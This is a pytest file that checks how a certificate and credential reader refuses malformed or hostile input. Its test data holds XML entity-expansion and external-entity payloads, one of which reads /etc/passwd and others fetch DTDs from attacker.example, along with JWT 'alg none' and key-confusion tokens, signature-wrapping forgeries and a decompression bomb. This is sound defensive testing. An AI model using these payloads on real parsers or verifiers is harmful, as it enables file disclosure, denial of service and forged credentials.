"""Documents that are no evidence, each with the sentence that it must give. Nothing is fetched, nothing is half used."""

import base64
import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization

from mra.errors import InputError
from mra.ingest.xml import read_xml
from tests.ingest.credential_reading import Read, codes, refusal
from tests.ingest.digital_made import (
    AT,
    ISSUER,
    KID,
    LIST,
    SAMPLES,
    attested,
    by_hand,
    calibration,
    credential,
    make_signer,
    new_key,
    public,
    revoked_by,
    sample,
    sign_xml,
    signed,
    status_entry,
    status_list,
    trusting,
    vouching,
    with_public_key_as_secret,
)

DCC = "dcc:digitalCalibrationCertificate"
DOCTYPE = (
    "certificate line 1: the file states a document type (DOCTYPE), which can hide entities and addresses; it is not read. "
    "Ask the issuer for the file without it."
)
AS_ISSUED = "Ask for the file as it was issued."


def xml(inner: str, declaration: str = "") -> bytes:
    return f'{declaration}<{DCC} xmlns:dcc="https://ptb.de/dcc" schemaVersion="3.2.1">{inner}</{DCC}>'.encode()


LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
)

XML = {
    "billion laughs": (xml("&i;", LAUGHS), DOCTYPE),
    "external entity": (xml("&x;", '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), DOCTYPE),
    "parameter entity": (xml("", '<!DOCTYPE l [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>'), DOCTYPE),
    "external DTD": (xml("", '<!DOCTYPE l SYSTEM "http://attacker.example/x.dtd">'), DOCTYPE),
    "DTD after a comment and an instruction": (xml("", "<!-- <x> --> <?y z?>\n<!DOCTYPE l>"), DOCTYPE.replace("line 1", "line 2")),
    "DTD in UTF-16": (('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE l><l/>').encode("utf-16"), DOCTYPE),
    "UTF-7": (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE l+AD4-<l/>',
        "certificate states the encoding “utf-7”, which is not read. Save it as UTF-8.",
    ),
    "unknown encoding": (
        b'<?xml version="1.0" encoding="EBCDIC-CP-US"?><l/>',
        "certificate states the encoding “ebcdic-cp-us”, which is not read. Save it as UTF-8.",
    ),
    "wrong encoding": (
        '<?xml version="1.0" encoding="UTF-8"?><l>证书</l>'.encode("gb18030"),
        f"certificate is not in the encoding that it states (utf-8). {AS_ISSUED}",
    ),
    "truncated": (calibration()[:2000], None),
    "undeclared entity": (xml("&nbsp;"), f"certificate line 1: not well-formed XML (Entity 'nbsp' not defined). {AS_ISSUED}"),
    "two roots": (b"<a/><b/>", f"certificate line 1: not well-formed XML (Extra content at the end of the document). {AS_ISSUED}"),
    "deep": (xml("<a>" * 101 + "</a>" * 101), "certificate line 1: elements stand more than 100 deep in each other; no certificate needs that."),
    "deeper than the library goes": (xml("<a>" * 5_000 + "</a>" * 5_000), None),
    "many elements": (xml("<a/>" * 200_001), "certificate has more than 200000 elements; such a file is not read."),
    "huge text": (xml("x" * 20_000_001), "certificate is larger than 20 MB; such a certificate is not read."),
    "text beyond the library's limit": (xml("x" * 10_000_001), None),
    "another vocabulary": (
        b"<invoice/>",
        "certificate: XML with the root element “invoice” is no certificate that is understood. "
        "Understood: digital calibration certificates (DCC) of version 3.",
    ),
    "a standard": (
        (SAMPLES / "nested.sts.xml").read_bytes(),
        "certificate is the text of a standard (“adoption”), no certificate; mra draft reads its adoptions.",
    ),
    "the name in another namespace": (calibration().replace(b"https://ptb.de/dcc", b"https://attacker.example"), None),
    "an older version": (calibration().replace(b"3.2.1", b"2.4.0"), "The certificate is of version 2.4.0; versions 3.x are understood."),
    "not conforming": (calibration().replace(b">pass<", b">fail<"), "The document says that the requirements are not met."),
    "not conforming, cut by a comment": (calibration().replace(b">pass<", b">fa<!-- -->il<"), "The document says that the requirements are not met."),
    "an economy that is none": (calibration().replace(b">CN</dcc:countryCodeISO", b">QQ</dcc:countryCodeISO"), None),
}


@pytest.mark.parametrize("name", XML)
def test_broken_xml(read: Read, name: str) -> None:
    data, sentence = XML[name]
    found = refusal(read, data, kind="cb_report")
    assert sentence is None or found == sentence


def test_a_document_type_in_the_text_is_no_document_type(read: Read) -> None:
    data = calibration().replace(b"By hand", b"<![CDATA[<!DOCTYPE]]>").replace(b"<dcc:statements>", b"<!-- <!DOCTYPE x> --><dcc:statements>")
    assert len(read(data, kind="cb_report")[0]) == 1


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030"])
def test_encodings_that_are_read(encoding: str) -> None:
    stated = "utf-16" if encoding == "utf-16" else encoding.removesuffix("-sig")
    root = read_xml(f'<?xml version="1.0"\n encoding="{stated}"?>\n<a>\n<b>证书</b></a>'.encode(encoding), "x")
    assert (root[0].text, root[0].sourceline) == ("证书", 4)


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        (b"<dcc:uniqueIdentifier>CAL-2026-7</dcc:uniqueIdentifier>", b"", "coreData"),
        (b"<dcc:uniqueIdentifier>CAL-2026-7<", b"<dcc:uniqueIdentifier> <", "uniqueIdentifier"),
        (b"2026-01-08", b"8 January", "endPerformanceDate"),
        (b">CN</dcc:countryCodeISO", b">China</dcc:countryCodeISO", "countryCodeISO3166_1"),
        (b"calibrationLaboratory>", b"laboratory>", "administrativeData"),
        (b"<dcc:uniqueIdentifier>", b"<dcc:uniqueIdentifier>X</dcc:uniqueIdentifier><dcc:uniqueIdentifier>", "coreData"),
    ],
)
def test_the_form_of_a_calibration_certificate(read: Read, before: bytes, after: bytes, said: str) -> None:
    found, problems = read(calibration().replace(before, after), kind="cb_report")
    assert found == []
    assert set(codes(problems)) == {"schema"}
    assert said in " ".join(problem.message.en for problem in problems)


@pytest.mark.parametrize(
    "filling",
    [b"<dcc:result/>" * 60_000, b"<dcc:x>" * 80 + b"</dcc:x>" * 80, b"<dcc:result " + b" ".join(b'a%d="1"' % number for number in range(60_000)) + b"/>"],
    ids=["elements", "levels", "attributes"],
)
def test_a_large_certificate_is_read_like_a_small_one(read: Read, filling: bytes) -> None:
    """What loading found: a schema that says "anything" of such parts takes the library gigabytes."""
    place = b"<dcc:results>"
    assert len(read(calibration().replace(place, place + filling), kind="cb_report")[0]) == 1


JSON = {
    "truncated": (b'{"type": ["Veri', f"certificate line 1, column 11: not valid JSON. {AS_ISSUED}"),
    "empty": (b"", f"certificate line 1, column 1: not valid JSON. {AS_ISSUED}"),
    "a comma too many": (b'{\n"a": 1,\n}', f"certificate line 3, column 1: not valid JSON. {AS_ISSUED}"),
    "duplicate keys": (
        b'{"validUntil": "2020-01-01", "validUntil": "2030-01-01"}',
        "certificate: the key “validUntil” stands twice in one object; which of the two counts is open, so nothing is read.",
    ),
    "deep arrays": (b"[" * 10_000 + b"]" * 10_000, "certificate line 1: values stand more than 60 deep in each other; no certificate needs that."),
    "deep objects": (b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "certificate line 1: values stand more than 60 deep in each other; no certificate needs that."),
    "NaN": (b'{"a": NaN}', "certificate: “NaN” is no number that JSON allows."),
    "infinity": (b'{"a": -Infinity}', "certificate: “-Infinity” is no number that JSON allows."),
    "a number without end": (b'{"a": 1e999}', "certificate: “1e999” is no number that JSON allows."),
    "a whole number of 5,000 digits": (b'{"a": ' + b"9" * 5_000 + b"}", "certificate: “…” is no number that JSON allows."),
    "half a pair of surrogates": (b'{"a": "\\ud800"}', "certificate is not UTF-8 text. Save it as UTF-8, or ask for the file as it was issued."),
    "GB18030": ('{"a": "证书"}'.encode("gb18030"), "certificate is not UTF-8 text. Save it as UTF-8, or ask for the file as it was issued."),
    "too large": (b" " * 8_000_001, "certificate is larger than 8 MB; such a certificate is not read."),
    "a text": (b'"certificate"', "“certificate” is no document."),
    "nothing known": (b'{"a": 1}', "This document is no certificate that is understood (a)."),
    "a token cut short": (b"eyJhbGciOiJFUzI1NiJ9.e30", f"certificate is no complete signed token (three parts, JSON within). {AS_ISSUED}"),
    "a token of no JSON": (b"eyJhbGciOiJFUzI1NiJ9.AAAA.AAAA", None),
    "a token of a list": (b"eyJhbGciOiJFUzI1NiJ9.W10.AAAA", f"certificate is no complete signed token (three parts, JSON within). {AS_ISSUED}"),
    "a token with a header of twice the same": (
        b".".join(base64.urlsafe_b64encode(part).rstrip(b"=") for part in (b'{"alg":"ES256","alg":"none"}', b"{}", b"")),
        "certificate: the key “alg” stands twice in one object; which of the two counts is open, so nothing is read.",
    ),
    "a token of another thing": (by_hand({"alg": "ES256"}, {"sub": "somebody"}).encode(), "The signed token holds no credential (—)."),
    "an envelope with an address": (
        b'{"type": "EnvelopedVerifiableCredential", "id": "https://attacker.example/credential"}',
        "The envelope “https://attacker.example/credential” is not understood.",
    ),
    "a selective disclosure token": (b'{"type": "EnvelopedVerifiableCredential", "id": "data:application/vc+sd-jwt,eyJ.e.e~"}', None),
    "too many documents": (json.dumps([{"a": 1}] * 1_001).encode(), None),
    "a certification at another address": (
        b'{"@type": "Certification", "@id": "https://certifier.example/1"}',
        "The certification is only named; its details stand at another address, which is not fetched.",
    ),
}


@pytest.mark.parametrize("name", JSON)
def test_broken_json(read: Read, name: str) -> None:
    data, sentence = JSON[name]
    if name == "too many documents":
        assert codes(read(data)[1]).count("too-many") == 1
        return
    found = refusal(read, data)
    assert sentence is None or found == sentence


@pytest.mark.parametrize(
    ("document", "sentence"),
    [
        (credential(validFrom="yesterday"), "“yesterday” is neither a day nor a moment."),
        (credential(validUntil="2026-13-01"), "“2026-13-01” is neither a day nor a moment."),
        (credential(validUntil=7), "“validUntil” is neither a day nor a moment."),
        (credential(validFrom="2026-06-01T12:00:01Z"), "It holds from 2026-06-01T12:00:01Z only; the day asked about is 2026-06-01."),
        (credential(credentialSubject=None), "The credential holds no attestation of conformity."),
        (credential(credentialSubject={"type": "Product"}), "The credential holds no attestation of conformity."),
        (attested(assessment=[{"conformance": False}]), "The document says that the requirements are not met."),
        (attested(assessment=[{"conformance": "yes"}]), "The document says that the requirements are not met."),
        (attested(scope=None, name=None, assessment=[]), "Which kind of evidence “” is cannot be told. Possible: —."),
        ({**sample("gs1.json"), "gs1:certificationStatus": "REVOKED?"}, "status “REVOKED?” is not known."),
        ({**sample("gs1.json"), "gs1:certificationStartDate": "2027-01-01"}, "It holds from 2027-01-01 only; the day asked about is 2026-06-01."),
        ({**sample("gs1.json"), "gs1:certificationEndDate": "0001-01-01T00:00:00Z"}, "“0001-01-01T00:00:00Z” is neither a day nor a moment."),
        ({**sample("gs1.json"), "gs1:certificationStandard": "GB 1-1999"}, "The standard “GB 1-1999” is not recorded in this edition."),
    ],
)
def test_contents_that_are_no_evidence(read: Read, document: Any, sentence: str) -> None:
    assert refusal(read, document) == sentence


def test_an_unknown_kind_is_refused_before_anything_is_read(read: Read) -> None:
    with pytest.raises(InputError, match="ccx"):
        read(credential(), kind="ccx")


# -- signatures of credentials

BAD = "The signature is not good, so the certificate is no evidence. "
KNOWN = "ES256, ES384, EdDSA, Ed25519, RS256, PS256"


@pytest.mark.parametrize("algorithm", ["ES256", "ES384", "EdDSA", "Ed25519", "RS256", "PS256"])
def test_good_signatures_and_changed_contents(read: Read, algorithm: str) -> None:
    key = new_key(algorithm)
    token = signed(credential(), key, algorithm)
    assert read(token, trust=trusting(key))[0][0].signature.state == "verified"
    header, payload, signature = token.split(".")
    other = base64.urlsafe_b64encode(json.dumps(credential(validUntil="2099-01-01T00:00:00Z")).encode()).rstrip(b"=").decode()
    altered = f"{BAD}It was not made with the key of {ISSUER}, or the content was changed."
    assert refusal(read, f"{header}.{other}.{signature}", trust=trusting(key)) == altered
    assert refusal(read, f"{header}.{payload}.{signature[:-8]}AAAAAAAA", trust=trusting(key)) == altered
    assert refusal(read, f"{header}.{payload}.", trust=trusting(key)) == altered
    assert refusal(read, token, trust=trusting(new_key(algorithm))) == altered


def test_no_algorithm(read: Read) -> None:
    token = by_hand({"alg": "none", "typ": "vc+jwt", "kid": KID}, credential())
    assert refusal(read, token, trust=trusting(new_key())) == f"{BAD}The algorithm “none” is refused; allowed are {KNOWN}."
    assert refusal(read, token) == f"{BAD}The algorithm “none” is refused; allowed are {KNOWN}."


def test_an_hmac_with_the_public_key(read: Read) -> None:
    key = new_key()
    assert refusal(read, with_public_key_as_secret(credential(), key), trust=trusting(key)) == (f"{BAD}The algorithm “HS256” is refused; allowed are {KNOWN}.")


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        ({"alg": "ES512"}, f"The algorithm “ES512” is refused; allowed are {KNOWN}."),
        ({"alg": ["ES256"]}, f"The algorithm “['ES256']” is refused; allowed are {KNOWN}."),
        ({"typ": "vc+jwt"}, f"The algorithm “None” is refused; allowed are {KNOWN}."),
        ({"alg": "ES256", "crit": ["exp"]}, "It relies on extensions (crit, b64) that are not understood."),
        ({"alg": "ES256", "b64": False}, "It relies on extensions (crit, b64) that are not understood."),
        ({"alg": "ES256", "typ": "dpop+jwt"}, "It was made for another purpose (dpop+jwt)."),
        ({"alg": "ES256", "kid": "did:web:attacker.example#key-1"}, f"The key did:web:attacker.example#key-1 is not the issuer's ({ISSUER})."),
        ({"alg": "RS256", "kid": KID}, f"It was not made with the key of {ISSUER}, or the content was changed."),
    ],
)
def test_headers_that_are_refused(read: Read, header: dict[str, Any], reason: str) -> None:
    assert refusal(read, by_hand(header, credential(), b"x" * 64), trust=trusting(new_key())) == BAD + reason


def test_a_wrong_key_id_leaves_the_signature_unverified(read: Read) -> None:
    key = new_key()
    (found,), (problem,) = read(signed(credential(), key, kid=f"{ISSUER}#key-9"), trust=trusting(key))
    assert found.signature.state == "unverified"
    assert "status" not in found.qualifiers
    assert problem.code == "note-unverified"
    assert problem.message.en == f"The signature was not verified. It names the key {ISSUER}#key-9, which is not among the trusted keys of {ISSUER}."


@pytest.mark.parametrize("trust", [None, trusting(new_key(), issuer="did:web:other.example")])
def test_without_a_trusted_key_nothing_is_verified(read: Read, trust: Any) -> None:
    (found,), (problem,) = read(signed(credential(), new_key()), trust=trust)
    assert found.signature.state == "unverified"
    assert problem.message.en == f"The signature was not verified. There is no trusted key of {ISSUER} to check it with."


def test_keys_within_the_token_are_not_looked_at(read: Read) -> None:
    key = new_key()
    (found,), _ = read(signed(credential(), key, jwk=public(key), jku="https://attacker.example/keys"))
    assert found.signature.state == "unverified"


def test_an_expired_key_and_one_that_does_not_count_yet(read: Read) -> None:
    key = new_key()
    token = signed(credential(), key)
    edge = trusting(key, start=AT, end=AT)
    assert read(token, trust=edge)[0][0].signature.state == "verified"
    assert refusal(read, token, trust=trusting(key, end=AT - timedelta(seconds=1))) == f"{BAD}The key {KID} no longer counted on 2026-06-01."
    assert refusal(read, token, trust=trusting(key, start=AT + timedelta(seconds=1))) == f"{BAD}The key {KID} did not yet count on 2026-06-01."


def test_the_issuer_named_outside_must_be_the_issuer_named_inside(read: Read) -> None:
    key = new_key()
    token = signed({**credential(), "iss": "did:web:attacker.example"}, key)
    assert refusal(read, token, trust=trusting(key)) == f"{BAD}It was signed for did:web:attacker.example, the credential names {ISSUER}."


def test_a_key_of_another_issuer_proves_nothing(read: Read) -> None:
    key = new_key()
    token = signed(credential(), key, kid="did:web:attacker.example#key-1")
    assert refusal(read, token, trust=trusting(key, issuer="did:web:attacker.example", kid="did:web:attacker.example#key-1")).startswith(BAD)


def test_a_key_for_another_algorithm_or_use_proves_nothing(read: Read) -> None:
    key = new_key("RS256")
    for more in ({"alg": "PS256"}, {"use": "enc"}):
        trust = trusting(key)
        trust.keys[0].jwk.update(more)
        assert refusal(read, signed(credential(), key, "RS256"), trust=trust).startswith(BAD), more


def test_an_embedded_proof_is_said_to_be_unchecked(read: Read) -> None:
    document = credential(proof={"type": "DataIntegrityProof", "cryptosuite": "ecdsa-rdfc-2019", "verificationMethod": KID, "proofValue": "z5"})
    (found,), (problem,) = read(document)
    assert found.signature.state == "unverified"
    assert "Its proof is embedded (ecdsa-rdfc-2019)" in problem.message.en


# -- status


def test_a_revoked_credential_is_judged_as_withdrawn(read: Read) -> None:
    key = new_key()
    token = signed(credential(credentialStatus=status_entry()), key)
    kept = signed(status_list([94_567]), key)
    (found,), (problem,) = read(token, trust=trusting(key, lists=[kept]))
    assert found.qualifiers["status"] == "withdrawn"
    assert (problem.code, problem.message.en) == ("note-revoked", f"The issuer revoked it ({LIST}).")
    (other,), problems = read(token, trust=trusting(key, lists=[signed(status_list([94_566, 94_568]), key)]))
    assert (other.qualifiers["status"], problems) == ("valid", [])


def test_a_suspended_credential(read: Read) -> None:
    key = new_key()
    entries = [status_entry(7), status_entry(9, "suspension"), status_entry(1, "message")]
    token = signed(credential(credentialStatus=entries), key)
    lists = [signed(status_list([1]), key), signed(status_list([9], purpose="suspension"), key)]
    (found,), (problem,) = read(token, trust=trusting(key, lists=lists))
    assert (found.qualifiers["status"], problem.code) == ("suspended", "note-suspended")


KEY = new_key()


@pytest.mark.parametrize(
    ("entry", "kept"),
    [
        (status_entry(), []),
        (status_entry(), [json.dumps(status_list())]),
        (status_entry(), [signed(status_list(), new_key())]),
        (status_entry(), [signed(status_list(issuer="did:web:other.example"), KEY)]),
        (status_entry(), [signed(status_list(id="https://certifier.example/status/2"), KEY)]),
        (status_entry(), [signed(status_list(validUntil="2026-01-01T00:00:00Z"), KEY)]),
        (status_entry(), [signed(status_list(validFrom="2027-01-01T00:00:00Z"), KEY)]),
        (status_entry(200_000), [signed(status_list(), KEY)]),
        (status_entry(), [signed(status_list(purpose="suspension"), KEY)]),
        (status_entry(), [signed(status_list(credentialSubject={"statusPurpose": "revocation", "encodedList": "uAAAA"}), KEY)]),
        (status_entry(), [signed(status_list(credentialSubject={"statusPurpose": "revocation"}), KEY)]),
        (status_entry(), [signed(status_list(type=["VerifiableCredential"]), KEY)]),
        ({**status_entry(), "statusListIndex": "-1"}, [signed(status_list(), KEY)]),
        ({**status_entry(), "type": "Other"}, [signed(status_list(), KEY)]),
        ("https://certifier.example/status/1#7", [signed(status_list(), KEY)]),
    ],
)
def test_a_status_that_cannot_be_told_is_not_known(read: Read, entry: Any, kept: list[str]) -> None:
    (found,), (problem,) = read(signed(credential(credentialStatus=entry), KEY), trust=trusting(KEY, lists=kept))
    assert "status" not in found.qualifiers
    assert problem.code == "note-status-unknown"


def test_a_list_of_another_trusted_issuer_says_nothing(read: Read) -> None:
    other, key = "did:web:other.example", new_key()
    trust = trusting(KEY, lists=[signed(status_list(issuer=other), key, kid=f"{other}#key-1")])
    trust = replace(trust, keys=(*trust.keys, *trusting(key, issuer=other, kid=f"{other}#key-1").keys))
    (found,), (problem,) = read(signed(credential(credentialStatus=status_entry()), KEY), trust=trust)
    assert ("status" in found.qualifiers, problem.code) == (False, "note-status-unknown")


def test_a_list_that_unpacks_without_end_is_not_unpacked(read: Read) -> None:
    bomb = status_list(size=40_000_000)
    (found,), (problem,) = read(signed(credential(credentialStatus=status_entry()), KEY), trust=trusting(KEY, lists=[signed(bomb, KEY)]))
    assert (problem.code, found.qualifiers.get("status")) == ("note-status-unknown", None)


# -- signatures of calibration certificates

ROOT = make_signer("Root", is_authority=True)
LABORATORY = make_signer("Calibration Laboratory", ROOT)
SIGNED = sign_xml(calibration(), LABORATORY)


def certified(read: Read, data: bytes, *trusted: Any, at: datetime = AT) -> str:
    return refusal(read, data, trust=vouching(*trusted), kind="cb_report", at=at)


@pytest.mark.parametrize("trusted", [(), (ROOT,), (LABORATORY,)])
def test_an_altered_certificate(read: Read, trusted: tuple[Any, ...]) -> None:
    altered = SIGNED.replace("深圳灯具厂".encode(), "深圳灯泡厂".encode())
    assert altered != SIGNED
    assert certified(read, altered, *trusted) == f"{BAD}It does not fit the content: the document was changed, or the signature is forged."


def test_a_certificate_signed_by_nobody_who_is_trusted(read: Read) -> None:
    for trust in (vouching(), vouching(make_signer("Root", is_authority=True))):
        (found,), (problem,) = read(SIGNED, trust=trust, kind="cb_report")
        assert (found.signature.state, "status" in found.qualifiers) == ("unverified", False)
        assert problem.message.en == (
            "The signature was not verified. It fits, and was made by “CN=Calibration Laboratory”, whom no trusted certificate vouches for."
        )


def test_a_signer_whose_certificate_has_expired_at_the_stated_time(read: Read) -> None:
    late, early = AT + timedelta(days=401), AT - timedelta(days=401)
    expected = "{}The certificate of “CN=Calibration Laboratory” {} {}."
    assert certified(read, SIGNED, ROOT, at=late) == expected.format(BAD, "had expired on", late.date())
    assert certified(read, SIGNED, LABORATORY, at=late) == expected.format(BAD, "had expired on", late.date())
    assert certified(read, SIGNED, LABORATORY, at=early) == expected.format(BAD, "was not yet valid on", early.date())


def test_a_laboratory_that_is_no_authority_vouches_for_nobody(read: Read) -> None:
    forger = make_signer("Forger", LABORATORY)
    (found,), _ = read(sign_xml(calibration(), forger), trust=vouching(LABORATORY), kind="cb_report")
    assert found.signature.state == "unverified"


def test_a_certificate_that_may_not_sign(read: Read) -> None:
    tls = make_signer("Server", ROOT, may_sign=False)
    assert certified(read, sign_xml(calibration(), tls), ROOT) == f"{BAD}The certificate of “CN=Server” may not be used for signatures."


def test_a_revoked_signer(read: Read) -> None:
    listed = revoked_by(ROOT, LABORATORY.certificate, AT - timedelta(days=1))
    trust = replace(vouching(ROOT), revocation_lists=(listed,))
    assert refusal(read, SIGNED, trust=trust, kind="cb_report") == f"{BAD}The certificate of “CN=Calibration Laboratory” had been revoked by 2026-06-01."
    assert read(SIGNED, trust=trust, kind="cb_report", at=AT - timedelta(days=2))[0]
    forged = revoked_by(make_signer("Root", is_authority=True), LABORATORY.certificate, AT - timedelta(days=1))
    assert read(SIGNED, trust=replace(vouching(ROOT), revocation_lists=(forged,)), kind="cb_report")[0]


def test_what_was_signed_wrapped_into_something_else(read: Read) -> None:
    """The signed certificate stands untouched within another one that shows other values."""
    marked = calibration().replace(b"schemaVersion", b'Id="signed" schemaVersion', 1)
    inner = sign_xml(marked, LABORATORY, reference="#signed").split(b"?>", 1)[1]
    outer = (
        calibration().replace(b"</dcc:measurementResults>", b"</dcc:measurementResults><wrapped>" + inner + b"</wrapped>").replace(b"CAL-2026-7", b"FORGED", 1)
    )
    assert certified(read, outer, ROOT) == f"{BAD}There is not exactly one signature directly below the root element."
    start, end = inner.index(b"<ds:Signature"), inner.index(b"</ds:Signature>") + len(b"</ds:Signature>")
    signature, rest = inner[start:end], inner[:start] + inner[end:]
    moved = calibration().replace(b"CAL-2026-7", b"FORGED", 1)
    moved = moved.replace(b"</dcc:measurementResults>", b"</dcc:measurementResults><wrapped>" + rest + b"</wrapped>" + signature)
    assert certified(read, moved, ROOT) == f"{BAD}It does not cover the whole document."
    twice = moved.replace(b"schemaVersion", b'Id="signed" schemaVersion', 1)
    assert certified(read, twice, ROOT) == f"{BAD}It does not fit the content: the document was changed, or the signature is forged."


def test_a_signature_over_a_part(read: Read) -> None:
    marked = calibration().replace(b"<dcc:items>", b'<dcc:items Id="part">')
    assert certified(read, sign_xml(marked, LABORATORY, reference="#part"), ROOT) == f"{BAD}It does not cover the whole document."


def test_a_signature_that_keeps_the_library_busy(read: Read) -> None:
    step = b'<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
    assert certified(read, SIGNED.replace(step, step * 50_000), ROOT) == f"{BAD}It does not cover the whole document."


def test_two_signatures(read: Read) -> None:
    start, end = SIGNED.index(b"<ds:Signature"), SIGNED.index(b"</ds:Signature>") + len(b"</ds:Signature>")
    assert certified(read, SIGNED[:end] + SIGNED[start:end] + SIGNED[end:], ROOT) == f"{BAD}There is not exactly one signature directly below the root element."


def test_a_comment_cut_into_a_signed_text_changes_nothing(read: Read) -> None:
    cut = SIGNED.replace(b"CAL-2026-7", b"CAL-2026<!-- -->-7")
    (found,), _ = read(cut, trust=vouching(ROOT), kind="cb_report")
    assert (found.signature.state, found.qualifiers["number"]) == ("verified", "CAL-2026-7")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (b"<ds:X509Certificate>", b"<ds:X509Certificate>AAAA"),
        (b"xmldsig-more#ecdsa-sha256", b"xmldsig-more#hmac-sha256"),
        (b"xmldsig-more#ecdsa-sha256", b"xmldsig-more#ecdsa-sha1"),
        (b"xmlenc#sha256", b"xmlenc#sha1"),
        (b"<ds:SignatureValue>", b"<ds:SignatureValue>AAAA"),
        (b'URI=""', b'URI="https://attacker.example/"'),
        # what fuzzing found: names and addresses that the library of signatures cannot read back
        (b"<ds:SignedInfo><ds:CanonicalizationMethod", "<ds:SignedInfo><ds:Can９４０５".encode()),
        (b"www.w3.org/2001/10/xml-exc-c14n#", b"www.w3.org/2001#10/xml-exc-c14n#"),
    ],
)
def test_signatures_that_are_none(read: Read, before: bytes, after: bytes) -> None:
    assert before in SIGNED
    assert certified(read, SIGNED.replace(before, after, 1), ROOT).startswith(BAD)


def test_a_certificate_with_a_curve_that_nobody_knows(read: Read) -> None:
    """What fuzzing found: the library of keys has an error of its own for it."""
    carried = LABORATORY.certificate.public_bytes(serialization.Encoding.DER)
    odd = carried.replace(bytes.fromhex("2a8648ce3d030107"), bytes.fromhex("2a8648ce3d010107"))
    assert odd != carried
    element = re.compile(rb"(<ds:X509Certificate>)[^<]*")
    assert certified(read, element.sub(rb"\g<1>" + base64.b64encode(odd), SIGNED, count=1), ROOT).startswith(BAD)


def test_a_certificate_without_a_serial_number(read: Read) -> None:
    """What fuzzing found: the library warns of it, and will refuse it one day."""
    carried = LABORATORY.certificate.public_bytes(serialization.Encoding.DER)
    serial = LABORATORY.certificate.serial_number.to_bytes(20, "big").lstrip(b"\0")
    odd = carried.replace(serial, b"\x80" + serial[1:], 1)
    assert odd != carried
    element = re.compile(rb"(<ds:X509Certificate>)[^<]*")
    found = certified(read, element.sub(rb"\g<1>" + base64.b64encode(odd), SIGNED, count=1), ROOT)
    assert found == f"{BAD}It brings a certificate that cannot be read."


def test_the_moment_may_be_stated_in_any_zone(read: Read) -> None:
    assert read(SIGNED, trust=vouching(ROOT), kind="cb_report", at=AT.astimezone(UTC))[0][0].signature.state == "verified"
